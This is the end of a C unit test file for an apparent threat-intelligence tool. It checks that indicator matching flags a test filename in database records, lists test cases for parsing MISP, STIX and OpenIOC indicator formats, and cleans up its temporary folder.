	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 1 AND field = 'path' AND matched = "
	    "'QuillUpdate.EXE'"), 1);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 2 AND field = 'command_line'"), 1);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 2 AND field = 'data.Author'"), 1);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 3 AND field = 'value Updater' AND matched = "
	    "'QuillUpdate.exe'"), 1);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 3 AND field = 'value Other'"), 1);
	/* notepad.exe is no indicator: neither its artefact nor its value */
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 4 OR field = 'value Plain'"), 0);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit"), 6);
	ct_case_close(c);
	free(casepath);
}

static const struct unit_case cases[] = {
	{ "refang_values", refang_values },
	{ "hash_values", hash_values },
	{ "ip_values", ip_values },
	{ "domain_values", domain_values },
	{ "url_values", url_values },
	{ "other_values", other_values },
	{ "infer_type", infer_type },
	{ "threat_report", threat_report },
	{ "csv_typed", csv_typed },
	{ "misp_csv", misp_csv },
	{ "csv_no_value_column", csv_no_value_column },
	{ "plain_list", plain_list },
	{ "misp_json", misp_json },
	{ "stix_bundle", stix_bundle },
	{ "invalid_json", invalid_json },
	{ "stix_pattern", stix_pattern },
	{ "openioc", openioc },
	{ "openioc_refused", openioc_refused },
	{ "detect_format", detect_format },
	{ "load_match", load_match },
	{ "match_artefacts", match_artefacts },
	{ NULL, NULL }
};

/* The files of every case go to one temporary folder. */
int
main(int argc, char **argv)
{
	int rc;

	if (!mkdtemp(dir)) {
		perror("mkdtemp");
		return 99;
	}
	rc = unit_run(cases, argc, argv);
	{
		char *cmd = ct_xasprintf("rm -rf '%s'", dir);

		if (system(cmd) != 0)
			fprintf(stderr, "cannot remove %s\n", dir);
		free(cmd);
	}
	return rc;
}
